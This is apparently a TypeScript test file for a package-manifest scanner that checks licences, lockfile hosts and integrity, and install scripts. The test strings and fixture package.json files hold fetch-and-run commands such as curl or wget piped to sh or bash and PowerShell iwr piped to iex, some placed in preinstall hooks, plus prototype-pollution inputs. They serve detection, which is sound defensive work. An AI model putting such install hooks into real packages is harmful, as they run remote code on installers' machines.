import { runOn } from '../../../test/run-on';
import { describeToolSamples } from '../../../test/tool-samples';
import { manifestTools } from '../../catalogue/manifests';
import { judgeScript } from '../kit/packages/install-scripts';
import { type LicencePolicy, judgeLicence } from './licences';
import { profileOf } from '../engine-table';
import { memberOf, parsePositionedJson, stringOf } from '../kit/positioned-json';

const profile = profileOf('manifests');

describeToolSamples(profile, manifestTools);

describe('JSON with positions', () => {
  it('tells the line of every member', () => {
    const json = parsePositionedJson('\uFEFF{\r\n  "a": {\r\n    "b": "c"\r\n  }\r\n}'.slice(1));
    const b = memberOf(memberOf(json, 'a'), 'b');
    expect([b?.line, stringOf(b)]).toEqual([3, 'c']);
  });

  it.each(['', '{', '{"a": }', '{"a": alert(1)}', '{a: 1}', '"\n', '{"a": 1} {"b": 2}', '{"__proto__": [undefined]}'])(
    'refuses %j',
    (text) => {
      expect(() => parsePositionedJson(text)).toThrow(/^no JSON/);
    },
  );

  it('keeps names that mean something to JavaScript apart', () => {
    const json = parsePositionedJson('{"__proto__": {"hasInstallScript": true}, "constructor": "x"}');
    expect(memberOf(json, 'hasInstallScript')).toBeUndefined();
    expect(stringOf(memberOf(json, 'constructor'))).toBe('x');
  });

  it('refuses to follow brackets for ever', () => {
    expect(() => parsePositionedJson('['.repeat(200_000))).toThrow('nested more than 100 levels deep');
  });
});

describe('the licence policy', () => {
  const policy: LicencePolicy = manifestTools.find(({ id }) => id === 'license-policy')!.settings![
    'policy'
  ] as LicencePolicy;

  it.each([
    ['MIT', undefined],
    ['gpl-3.0', 'strong-copyleft-licence'],
    ['GPL-2.0+', 'strong-copyleft-licence'],
    ['LGPL-3.0-only', undefined],
    ['AGPL-3.0-or-later', 'network-copyleft-licence'],
    ['(MIT OR AGPL-3.0)', undefined],
    ['GPL-2.0 OR AGPL-3.0', 'strong-copyleft-licence'],
    ['MIT AND (GPL-3.0-only)', 'strong-copyleft-licence'],
    ['GPL-2.0-only WITH Classpath-exception-2.0', undefined],
    ['SEE LICENSE IN LICENSE.md', undefined],
    ['', undefined],
  ])('judges %j', (licence, rule) => expect(judgeLicence(licence, policy)).toBe(rule));
});

describe('scripts that run on installation', () => {
  it.each([
    ['curl -s https://example.net/a.sh | bash', 'fetches-and-runs'],
    ['wget -qO- https://example.net/a | sudo sh', 'fetches-and-runs'],
    ['sh -c "$(curl -fsSL https://example.net/a.sh)"', 'fetches-and-runs'],
    ['bash <(curl -s https://example.net/a.sh)', 'fetches-and-runs'],
    ['curl -s https://example.net/a.py | python3', 'fetches-and-runs'],
    ['powershell iwr https://example.net/a.ps1 | iex', 'fetches-and-runs'],
    ['curl -o icons.zip https://example.net/icons.zip', 'fetches-file'],
    ['node build.js | sh', undefined],
    ['echo curling', undefined],
  ])('are judged: %s', (script, rule) => expect(judgeScript(script)).toBe(rule));
});

describe('manifest checks', () => {
  it('read on when a manifest is broken, and say which', async () => {
    const run = await runOn(profile, manifestTools, {
      'a/package.json': Buffer.from([0, 1, 2]),
      'b/package.json': '',
      'c/package.json': '{"scripts": {"preinstall": "curl https://example.net | sh"',
      'd/package.json': '[]',
      'e/package-lock.json': `{"packages": ${'{"a":'.repeat(50_000)}`,
      'f/package.json': `{"scripts": {"test": "${'x'.repeat(2_000_000)}"}}`,
      'g/package.json': '\uFEFF{\r\n"scripts": {\r\n"preinstall": "curl https://example.net | sh"}}',
      'h/package.json': '{"scripts": "none", "dependencies": [1], "private": "yes", "workspaces": 3}',
      'i/package-lock.json':
        '{"packages": {"node_modules/a": null, "node_modules/b": {"resolved": 7, "license": {"type": "GPL-3.0"}}}}',
    });
    expect(run.found).toEqual(['g/package.json:3 fetches-and-runs']);
    expect([...run.unreadable].sort()).toEqual([
      'a/package.json',
      'b/package.json',
      'c/package.json',
      'd/package.json',
      'e/package-lock.json',
    ]);
    for (const { id } of manifestTools) expect(run.tool(id).outcome).toEqual({ status: 'completed' });
  });

  it('take the two names of the registry of npm for one', async () => {
    const hosts = ['registry.npmjs.org', 'registry.npmjs.org', 'registry.yarnpkg.com'];
    const packages = Object.fromEntries(
      hosts.map((host, index) => [
        `node_modules/p${index}`,
        { version: '1.0.0', resolved: `https://${host}/x.tgz`, integrity: 'sha512-x' },
      ]),
    );
    const run = await runOn(profile, manifestTools, {
      'package.json': '{"name":"x"}',
      'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages }, null, 1),
    });
    expect(run.tool('lockfile-integrity').findings).toEqual([]);
  });

  it('name the host of packages from another registry as their one cause', async () => {
    const locked = (host: string) => ({ version: '1.0.0', resolved: `https://${host}/x.tgz`, integrity: 'sha512-x' });
    const hosts = ['r.example', 'r.example', 'r.example', 'r.example', 'a.example', 'a.example', 'b.example'];
    const packages = Object.fromEntries(hosts.map((host, index) => [`node_modules/p${index}`, locked(host)]));
    const run = await runOn(profile, manifestTools, {
      'package.json': '{"name":"x"}',
      'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages }, null, 1),
    });
    const { findings } = run.tool('lockfile-integrity');
    expect(findings.map(({ rule, cause }) => `${rule} ${cause}`)).toEqual([
      'unusual-host a.example',
      'unusual-host a.example',
      'unusual-host b.example',
    ]);
  });

  it('read locks of version 1, nested packages included', async () => {
    const nested =
      '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": ' +
      '"https://r.example.org/a.tgz", "integrity": "sha512-AA==", "dependencies": {\n"b": ' +
      '{"version": "git+ssh://git@example.net/b.git#main"},\n"c": {"version": "1.0.0", ' +
      '"resolved": "https://r.example.org/c.tgz"}}}}}';
    const { found } = await runOn(profile, manifestTools, { 'package-lock.json': nested });
    expect(found).toEqual(['package-lock.json:2 git-dependency-not-pinned', 'package-lock.json:3 no-integrity']);
  });
});

describe('a published package', () => {
  const PACKAGE = { kind: 'package', leftOut: [] } as const;
  const REPOSITORY = { kind: 'repository', leftOut: [] } as const;
  const tree = {
    'package.json':
      '{"name": "a", "license": "GPL-3.0-only",\n"scripts": {\n"preinstall": "curl ' +
      'https://example.net/a.sh | sh",\n"postinstall": "node-gyp rebuild",\n"prepare": "curl ' +
      'https://example.net/a.sh | sh",\n"test": "jest"}}',
    'bundled/package.json': '{"name": "b",\n"license": {"type": "AGPL-3.0"}, "scripts": {"postinstall": "node b.js"}}',
    'dist/package.json': '{"type": "module", "license": "GPL-3.0-only"}',
  };

  it('is judged as a dependency: by its licence, those of bundled packages, and its install scripts', async () => {
    const { found } = await runOn(profile, manifestTools, tree, PACKAGE);
    expect(found).toEqual([
      'bundled/package.json:2 network-copyleft-licence',
      'package.json:1 strong-copyleft-licence',
      'package.json:3 fetches-and-runs',
      'package.json:4 dependency-runs-script',
    ]);
  });

  it('is judged as a project if its source is analysed: it may choose its licence and its scripts', async () => {
    const { found, tool } = await runOn(profile, manifestTools, tree, REPOSITORY);
    expect(found).toEqual(['package.json:3 fetches-and-runs', 'package.json:5 fetches-and-runs']);
    expect(['license-policy', 'install-scripts'].map((id) => tool(id).filesChecked)).toEqual([0, 3]);
  });
});
